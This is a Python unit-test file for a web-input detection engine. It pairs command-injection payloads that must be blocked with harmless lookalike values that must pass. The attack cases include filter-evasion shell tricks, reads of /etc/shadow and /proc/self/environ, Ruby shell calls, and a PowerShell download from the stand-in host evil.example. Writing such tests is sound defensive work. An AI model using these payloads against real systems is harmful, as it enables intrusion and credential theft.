"""Unit: command injection shapes of round 2 (after fresh12) and the benign values of the same look each rule must let
through: pipe-joined multi-value lists, a value opening with a line break, decoding a variable, a recon tool after a
separator, words split by special parameters or empty substitutions, brace expansion building a command, variables
assembled into a command line, a walk from the root, Ruby's ``Process.spawn``, PowerShell's download and evaluate
cmdlets. Every case goes through the whole engine (decoders, prefilter, analysers), with other values than the corpus
uses."""

from __future__ import annotations

import pytest

from bastion.detection import Context, Engine

BODY = Context("body", "comment")
QUERY = Context("query", "q")
HEADER = Context("header", "x-note")

ATTACKS: dict[str, tuple[str, Context]] = {
    # a pipe still runs a command when it is not a list of bare words
    "pipe_two_words": ("abc|id", QUERY),
    "pipe_strong_tool_in_list": ("foo|bar|whoami", QUERY),
    "pipe_from_address_with_argument": ("10.1.2.3|head /etc/hosts", BODY),
    "pipe_list_into_shell": ("alpha|beta|bash", QUERY),
    "pipe_list_then_arguments": ("one|two|tail /etc/shadow", BODY),
    # a value opening with a line break, then a probe that closes its line or is one
    "newline_probe_then_separator": ("\nid&", QUERY),
    "newline_probe_then_final_newline": ("\npwd\n", BODY),
    "newline_tool_by_path": ("\n/bin/ps aux", BODY),
    "newline_reads_system_file": ("\nhead /proc/self/environ", HEADER),
    "newline_probe_form": ("\nsleep 12", QUERY),
    "newline_identity_alone": ("\nid", QUERY),
    "escaped_newline_probe": ("\\nps -ef;", BODY),
    # a recon tool or probe form after a separator
    "recon_after_separator": ("x; ansible localhost -m setup", QUERY),
    "recon_family_alone_after_separator": ("ok && ansible-pull", BODY),
    "probe_form_after_separator": ("1|perf -v", QUERY),
    "registry_editor_after_separator": ("a;regedit HKCU\\Control Panel", BODY),
    "package_manager_behind_wrapper": ("nohup winget example.net", QUERY),
    # a command word split by a special parameter or an empty substitution
    "split_by_pid_parameter": ("who$$ami", QUERY),
    "split_by_exit_status": ("x;hos$?tname -f", BODY),
    "empty_substitution_after_word": ("sleep$() 7", QUERY),
    "empty_backticks_after_word": ("uname`` -r", HEADER),
    "empty_process_substitution": ("wh<()oami", QUERY),
    "unset_variable_before_option": ("hostname$z -i", BODY),
    # brace expansion building a command line
    "brace_glued_head": ("h{ead,/etc/group}", QUERY),
    "brace_glued_tail": ("{c,/etc/hostname}at", BODY),
    "brace_empty_first_member": ("{,netstat,-an}", QUERY),
    "brace_with_filler": ("{w\\h$u\\o\\ami,}", BODY),
    # variables assigned, then joined in command position
    "assembled_from_pieces": ("p=/etc/;f=group;t=tail;$t $p$f", QUERY),
    "assembled_with_braces": ("x=he&&y=ad&&${x}${y} /etc/hosts", BODY),
    # a walk from the file system's root
    "cd_root_then_command": ("cd / && cd proc && strings self/environ", QUERY),
    # code reaching a shell
    "ruby_kernel_system": ("Kernel.system('uname -a')", BODY),
    "ruby_io_popen": ('IO.popen("id")', QUERY),
    "powershell_evaluate": ("Invoke-Expression -c whoami", HEADER),
    "powershell_download_script": ("invoke-webrequest https://evil.example/run.ps1", QUERY),
}

BENIGN: dict[str, tuple[str, Context]] = {
    # multi-value lists joined by "|"
    "mediawiki_props": ("timestamp|user|comment|type", QUERY),
    "mediawiki_props_sort_member": ("ids|sort|size", QUERY),
    "solr_field_list": ("id|name|score", QUERY),
    "regex_alternation": ("gif|jpg|more", QUERY),
    "jira_fields": ("summary|status|assignee|type", BODY),
    "list_in_sentence": ("use fields=title|type|tail to narrow it", BODY),
    # documentation after an opening line break
    "newline_then_word": ("\nhead", BODY),
    "newline_runbook_listing": ("\nls -lh /srv/app/releases/", BODY),
    "newline_runbook_ping": ("\nping -c 3 status.example.org", BODY),
    "newline_prose": ("\nMore details below, please read.", BODY),
    "escaped_newline_then_word": ("\\ntail", BODY),
    # documentation decoding a variable
    "decode_here_string_variable": ('base64 --decode <<< "$API_KEY"', BODY),
    "decode_command_output_into_variable": ("PW=$(kubectl get secret db -o jsonpath='{.data.pw}' | base64 -d)", BODY),
    "xxd_of_variable": ("xxd -r -p <<< $HEX", BODY),
    # tool names in prose and documentation
    "ansible_in_prose": ("We use Chef; Ansible is next", BODY),
    "perf_in_prose": ("Good perf; fast", BODY),
    "powershell_doc_download": ("Invoke-WebRequest -Uri https://example.com/a.zip -OutFile a.zip", BODY),
    "regedit_in_prose": ("Open it; regedit is the tool", BODY),
    # money, templates and shell-like words that are not split commands
    "price_with_dollars": ("US$$ 40 for two", BODY),
    "brace_field_selection": ("{id,name}", QUERY),
    "brace_file_names": ("report{1,2}.pdf", QUERY),
    "brace_words": ("{red,green}", QUERY),
    "shell_script_assignment": ("NAME=world; echo hello", BODY),
    "cd_into_project": ("cd /srv/app && npm ci", BODY),
    "cd_up": ("cd .. && make test", BODY),
    "ruby_method_named_spawn": ("pool.spawn(worker)", BODY),
    "odata_query": ("$filter=name eq 'x'&$top=10", QUERY),
}


@pytest.mark.parametrize(("value", "ctx"), ATTACKS.values(), ids=ATTACKS.keys())
def test_cmdi_fresh12_shape_is_blocked(engine: Engine, value: str, ctx: Context) -> None:
    found = engine.inspect(value, ctx)
    assert found is not None, value
    assert found.rule.attack in {"cmdi", "traversal"}, (value, found.rule.attack)


@pytest.mark.parametrize(("value", "ctx"), BENIGN.values(), ids=BENIGN.keys())
def test_cmdi_fresh12_benign_passes(engine: Engine, value: str, ctx: Context) -> None:
    assert engine.inspect(value, ctx) is None, value
